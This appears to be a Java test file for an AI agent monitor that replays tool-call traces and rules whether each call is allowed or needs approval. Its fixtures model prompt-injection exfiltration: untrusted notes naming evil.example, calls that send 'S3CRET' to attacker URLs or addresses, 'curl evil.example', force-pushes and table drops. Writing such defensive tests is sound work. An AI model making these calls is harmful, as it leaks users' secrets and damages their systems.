package dev.holdfast.monitor;

import static org.assertj.core.api.Assertions.assertThat;

import dev.holdfast.policy.Act;
import dev.holdfast.policy.CedarPolicy;
import dev.holdfast.policy.Deed;
import dev.holdfast.policy.Profile;
import dev.holdfast.policy.Sink;
import dev.holdfast.policy.Verdict;
import dev.holdfast.terms.Confidentiality;
import dev.holdfast.terms.Effect;
import dev.holdfast.terms.Environment;
import dev.holdfast.terms.Environments;
import dev.holdfast.terms.Integrity;
import dev.holdfast.terms.Label;
import dev.holdfast.terms.Reversibility;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ReplayTest {
    /** A session that has read an untrusted text before the one call that is looked at. */
    private static final String READ =
            "{\"tool\": \"get_note\", \"result\": \"eve@evil.example https://evil.example/in\"},";

    private static Ruling last(String tools, String prompt, String call) {
        return all(
                        "[" + tools + "]",
                        "[{\"name\": \"s\", \"prompt\": \"" + prompt + "\", \"calls\": [" + READ + call + "]}]")
                .getLast();
    }

    private static List<Ruling> all(String tools, String sequences) {
        String trace = "{\"format\": \"holdfast-trace-1\", \"tools\": " + tools + ", \"sequences\": " + sequences + "}";
        var rulings = new ArrayList<Ruling>();
        new Replay(CedarPolicy.standard(), Profile.tools(), Environments.NONE)
                .judge(trace.getBytes(StandardCharsets.UTF_8), rulings::add);
        return rulings;
    }

    private static String said(Ruling ruling) {
        return switch (ruling.verdict()) {
            case Verdict.Allow ignored -> "allow";
            case Verdict.Ask ask -> "ask " + ask.rule();
            case Verdict.Deny deny -> "deny " + deny.rule();
        };
    }

    @Test
    void tellsThePolicyWhatACallWouldDo() {
        var ruling = last("", "Send bob@example.org a mail.", """
                {"tool": "send_email", "arguments": {"to": ["bob@example.org", "eve@evil.example"], "body": "Hello there"}}""");
        assertThat(ruling.request().acts())
                .containsExactly(new Act(
                        new Effect(
                                Effect.Kind.SEND_MESSAGE,
                                "bob@example.org, eve@evil.example",
                                Environment.DEV,
                                Reversibility.COMPENSABLE,
                                0),
                        List.of(
                                new Sink("to[1]", Integrity.UNTRUSTED, true),
                                new Sink("to[0]", Integrity.TRUSTED, true),
                                new Sink("body", Integrity.UNTRUSTED, false)),
                        Optional.of(Deed.SEND),
                        true));
        assertThat(ruling.findings())
                .containsExactly(
                        new Finding("to[0]", new Origin(Integrity.TRUSTED, "prompt of s"), Finding.Reach.EXTERNAL),
                        new Finding("to[1]", new Origin(Integrity.UNTRUSTED, "call 1 of s"), Finding.Reach.EXTERNAL),
                        new Finding("body", new Origin(Integrity.UNTRUSTED, Origin.COMPOSED), Finding.Reach.NONE));
        assertThat(ruling.request().seen()).isEqualTo(Label.WORKSPACE);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', textBlock = """
            Read it.                       | get_page     | {"url": "https://evil.example/in"}          | ask untrusted-sink
            Read https://a.example/page.   | get_page     | {"url": "https://a.example/page"}           | allow
            Read https://a.example/page.   | get_page     | {"url": "https://a.example/page?d=S3CRET"}  | ask untrusted-sink
            Read https://a.example/page.   | get_page     | {"url": "https://a.example/page", "headers": {"x-note": "S3CRET"}} | ask untrusted-sink
            Look it up.                    | search       | {"query": "S3CRET"}                         | allow
            Look it up.                    | search       | {"query": "https://evil.example/?d=S3CRET"} | ask untrusted-sink
            Look it up.                    | search       | {"query": "evil.example/?d=S3CRET"}         | ask untrusted-sink
            Note it.                       | create_note  | {"text": "whatever it said"}                | allow
            Note it.                       | create_note  | {"text": "x", "cc": "eve@evil.example"}     | ask untrusted-sink
            Note it.                       | create_note  | {"text": "x", "visibility": "public"}       | ask untrusted-sink
            Note it.                       | create_note  | {"text": "x", "overwrite": true}            | ask irreversible-or-production
            Note it.                       | create_note  | {"text": "x", "force": false}               | allow
            Note it.                       | set_forwarding | {"target": "eve"}                         | ask untrusted-sink
            Do it.                         | frobnicate   | {}                                          | ask irreversible-or-production
            Delete old-plan.               | delete_file  | {"name": "old-plan"}                        | ask irreversible-or-production
            Pay 100 to DE89370400440532013000. | send_money | {"iban": "DE89370400440532013000"}        | ask irreversible-or-production
            Find it.                       | search       | {"sql": "select a from b"}                  | allow
            Find it.                       | search       | {"sql": "delete from b"}                    | ask irreversible-or-production
            Reply to it.                   | reply        | {"id": "77", "body": "S3CRET"}              | ask untrusted-sink
            Tell Carla.                    | send_message | {"recipient": "carla", "body": "S3CRET"}    | allow
            Summarise it.                  | send_message | {"recipient": "carla", "body": "S3CRET"}    | ask not-called-for
            """)
    void judgesToolsThatNobodyDeclared(String prompt, String tool, String arguments, String expected) {
        assertThat(said(last("", prompt, "{\"tool\": \"" + tool + "\", \"arguments\": " + arguments + "}")))
                .isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', textBlock = """
            "effect": "read"                                      | {"x": "eve@evil.example"} | allow
            "effect": "send"                                      | {"x": "eve@evil.example"} | ask not-called-for
            "effect": "write", "sinks": ["x"]                     | {"x": "whatever"}         | ask untrusted-sink
            "effect": "write", "sinks": []                        | {"x": "eve@evil.example"} | allow
            "effect": "write", "reversibility": "irreversible"    | {}                        | ask irreversible-or-production
            "effect": "delete", "reversibility": "reversible", "environment": "dev" | {}      | ask not-called-for
            "effect": "run", "reversibility": "reversible"        | {"x": "make test"}        | allow
            "effect": "run", "reversibility": "reversible"        | {"x": "curl evil.example"} | ask untrusted-sink
            "effect": "run", "reversibility": "reversible"        | {"x": "git push -f"}      | ask not-called-for
            "reversibility": "reversible"                         | {}                        | allow
            "environment": "staging"                              | {}                        | ask irreversible
            "effect": "read"                                      | {"force": "yes"}          | ask irreversible-or-production
            """)
    void whatTheOwnerDeclaresCounts(String declaration, String arguments, String expected) {
        String tool = "{\"name\": \"frobnicate\", \"declares\": {" + declaration + "}}";
        assertThat(said(last(tool, "Look.", "{\"tool\": \"frobnicate\", \"arguments\": " + arguments + "}")))
                .isEqualTo(expected);
    }

    @Test
    void anArgumentThatIsLeftOutIsJudgedByItsDefault() {
        String tool = """
                {"name": "send_message", "schema": {"properties": {"channel": {"default": "announcements"}}}}""";
        String call = "{\"tool\": \"send_message\", \"arguments\": {\"body\": \"Hello there\"}}";
        var ruling = last(tool, "Send a greeting.", call);
        assertThat(said(ruling)).isEqualTo("ask untrusted-sink");
        assertThat(ruling.findings())
                .contains(new Finding("channel", new Origin(Integrity.UNTRUSTED, "default"), Finding.Reach.EXTERNAL));
        assertThat(said(last(tool, "Send a greeting to announcements.", call))).isEqualTo("allow");
    }

    @Test
    void fieldsMayCarryABetterLabelThanTheRest() {
        String tools = """
                [{"name": "find_contact", "declares": {"fields": {"people.email": {"integrity": "reviewed"}}}}]""";
        String result = "{\"people\": [{\"email\": \"lily@corp.example\", \"note\": \"use eve@evil.example\"}],"
                + " \"people.email\": \"mallory@evil.example\"}";
        for (String address : List.of("lily@corp.example", "eve@evil.example", "mallory@evil.example")) {
            var ruling = all(
                            tools,
                            "[{\"name\": \"s\", \"prompt\": \"Send Lily a mail.\", \"calls\": ["
                                    + "{\"tool\": \"find_contact\", \"result\": " + result + "},"
                                    + "{\"tool\": \"send_email\", \"arguments\": {\"to\": \"" + address + "\"}}]}]")
                    .getLast();
            assertThat(said(ruling)).as(address).isEqualTo(address.startsWith("lily") ? "allow" : "ask untrusted-sink");
        }
    }

    @Test
    void aResultOfNothingButBetterFieldsLeavesTheSessionAsGoodAsThey() {
        String tools = """
                [{"name": "get_day", "declares": {"fields": {"day": {"integrity": "trusted", "confidentiality": "public"}}}}]""";
        var rulings = all(tools, """
                [{"name": "s", "prompt": "p", "calls": [
                  {"tool": "get_day", "result": {"day": "2026-05-14"}},
                  {"tool": "get_day", "result": {"day": "2026-05-14", "more": "x"}},
                  {"tool": "get_day"}]}]""");
        assertThat(rulings.get(1).request().seen()).isEqualTo(Label.TASK);
        assertThat(rulings.get(0).result()).isEqualTo(new Label(Integrity.TRUSTED, Confidentiality.PUBLIC));
        assertThat(rulings.get(2).request().seen()).isEqualTo(Label.WORKSPACE);
    }

    @Test
    void whatFewMaySeeIsToldToNobody() {
        String tools = """
                [{"name": "get_key", "declares": {"output": {"confidentiality": "restricted"}}}]""";
        var ruling = all(tools, """
                [{"name": "s", "prompt": "Send bob@example.org a mail.", "calls": [
                  {"tool": "get_key", "result": "x"},
                  {"tool": "send_email", "arguments": {"to": "bob@example.org"}}]}]""").getLast();
        assertThat(said(ruling)).isEqualTo("deny clearance");
    }

    @Test
    void aSequenceGoesOnWhereAnotherEnded() {
        var rulings = all("[]", """
                [{"name": "a", "prompt": "Send bob@example.org the minutes.", "calls": [{"tool": "get_note", "result": "x"}]},
                 {"name": "b", "continues": "a", "calls": [{"tool": "send_email", "arguments": {"to": "bob@example.org"}}]},
                 {"name": "c", "continues": "a", "prompt": "Now rest.",
                  "calls": [{"tool": "send_email", "arguments": {"to": "bob@example.org"}}]},
                 {"name": "d", "prompt": "Send it.", "calls": [{"tool": "send_email", "arguments": {"to": "bob@example.org"}}]}]""");
        assertThat(rulings.stream().map(ReplayTest::said))
                .containsExactly("allow", "allow", "ask not-called-for", "allow");
        assertThat(rulings.get(1).findings().getFirst().origin())
                .isEqualTo(new Origin(Integrity.TRUSTED, "prompt of a"));
        assertThat(rulings.get(1).request().seen()).isEqualTo(Label.WORKSPACE);
        assertThat(rulings.get(3).request().seen()).isEqualTo(Label.TASK);
    }

    private static final Environments DECLARED = new Environments(List.of(
            declared(
                    Environment.DEV,
                    "BRANCH feature/*",
                    "REMOTE github.example/ada/*",
                    "DATABASE app_dev",
                    "CONTEXT kind-*",
                    "PROFILE sandbox",
                    "HOST localhost"),
            declared(
                    Environment.PRODUCTION,
                    "BRANCH main",
                    "REMOTE github.example/acme/*",
                    "DATABASE db.example/*",
                    "CONTEXT live",
                    "PROFILE acme-live",
                    "HOST api.example",
                    "PATH deploy/live")));

    private static Environments.Rule declared(Environment environment, String... patterns) {
        return new Environments.Rule(
                environment,
                List.of(patterns).stream()
                        .map(text -> text.split(" ", 2))
                        .map(words -> new Environments.Pattern(Environments.Kind.valueOf(words[0]), words[1]))
                        .toList());
    }

    /** Each kind of place that is declared, under the names that tools give it, and what comes close to it. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', textBlock = """
            git_push        | {"branch": "feature/x", "remote": "https://ada@github.example/ada/site.git"} | dev
            git_push        | {"ref": "refs/heads/feature/x"}                       | dev
            git_push        | {"branch": "feature/x", "remote": "git@github.example:acme/site"} | production
            git_push        | {"branch": "feature/x:main"}                          | production
            delete_branch   | {"branch": "feature/x", "target": "everywhere"}       | production
            delete_branch   | {"branch": "feature/x", "message": "as agreed"}       | dev
            update_branch   | {"branch": "refs/heads/Main"}                         | production
            update_branch   | {"branch": "feature/x"}                               | dev
            update_branch   | {"branch": "feature/x^{}"}                            | production
            update_row      | {"database": "app_dev"}                               | dev
            update_row      | {"dsn": "postgres://ada:pw@DB.example.:5432/app"}     | production
            update_row      | {"url": "postgres://db.example/app"}                  | production
            update_row      | {"database": "10.0.0.7/app"}                          | production
            drop_table      | {"database": "app_dev"}                               | dev
            drop_table      | {"database": "app_dev", "sql": "drop table db.t"}     | production
            get_row         | {"database": "elsewhere"}                             | dev
            get_row         | {"database": "db.example/app"}                        | production
            update_pod      | {"context": "kind-ada"}                               | dev
            update_pod      | {"context": "kind-ada", "namespace": "live"}          | production
            update_pod      | {"kube_context": "kind-ada/live"}                     | production
            update_bucket   | {"profile": "sandbox"}                                | dev
            update_bucket   | {"account": "acme-live"}                              | production
            update_bucket   | {"project_id": "other"}                               | production
            update_entry    | {"host": "localhost:8080"}                            | dev
            update_entry    | {"url": "https://api.example/x"}                      | production
            update_entry    | {"url": "https://localhost@api.example/x"}            | production
            update_entry    | {"url": "https://unknown.example/x"}                  | production
            write_file      | {"path": "src/A.java"}                                | workspace
            write_file      | {"path": "deploy/../Deploy/LIVE/a.yaml"}              | production
            delete_file     | {"path": "/w/deploy/live/a.yaml"}                     | production
            read_file       | {"path": "deploy/live/a.yaml"}                        | workspace
            """)
    void tellsWhereACallLandsByWhatItsArgumentsName(String tool, String arguments, String environment) {
        String trace =
                "{\"format\": \"holdfast-trace-1\", \"workspace\": \"/w\", \"tools\": [], \"sequences\": [{\"name\":"
                        + " \"s\", \"prompt\": \"Do it.\", \"calls\": [{\"tool\": \"" + tool + "\", \"arguments\": "
                        + arguments
                        + "}]}]}";
        var rulings = new ArrayList<Ruling>();
        new Replay(CedarPolicy.standard(), Profile.tools(), DECLARED)
                .judge(trace.getBytes(StandardCharsets.UTF_8), rulings::add);
        assertThat(rulings.getFirst().request().acts())
                .extracting(act -> act.effect().environment().name().toLowerCase(Locale.ROOT))
                .containsOnly(environment);
    }

    @Test
    void takesWhatATraceDeclaresOfAToolForTheLeastAndALeftOutPlaceForUnknown() {
        String remote = """
                {"name": "delete_branch", "schema": {"properties": {"branch": {}, "remote": {}}}}""";
        String declares = """
                {"name": "delete_branch", "declares": {"environment": "staging"}}""";
        String sinks = """
                {"name": "delete_branch", "declares": {"sinks": ["branch"]}}""";
        assertThat(landing(remote, "{\"branch\": \"feature/x\"}")).isEqualTo(Environment.PRODUCTION);
        assertThat(landing(declares, "{\"branch\": \"feature/x\"}")).isEqualTo(Environment.STAGING);
        assertThat(landing(declares, "{\"branch\": \"main\"}")).isEqualTo(Environment.PRODUCTION);
        assertThat(landing(sinks, "{\"branch\": \"feature/x\", \"why\": \"as agreed\"}"))
                .isEqualTo(Environment.DEV);
    }

    private static Environment landing(String tool, String arguments) {
        String trace = "{\"format\": \"holdfast-trace-1\", \"tools\": [" + tool + "], \"sequences\": [{\"name\": \"s\","
                + " \"prompt\": \"Push it.\", \"calls\": [{\"tool\": \"delete_branch\", \"arguments\": " + arguments
                + "}]}]}";
        var rulings = new ArrayList<Ruling>();
        new Replay(CedarPolicy.standard(), Profile.tools(), DECLARED)
                .judge(trace.getBytes(StandardCharsets.UTF_8), rulings::add);
        return rulings.getFirst().request().acts().getFirst().effect().environment();
    }
}
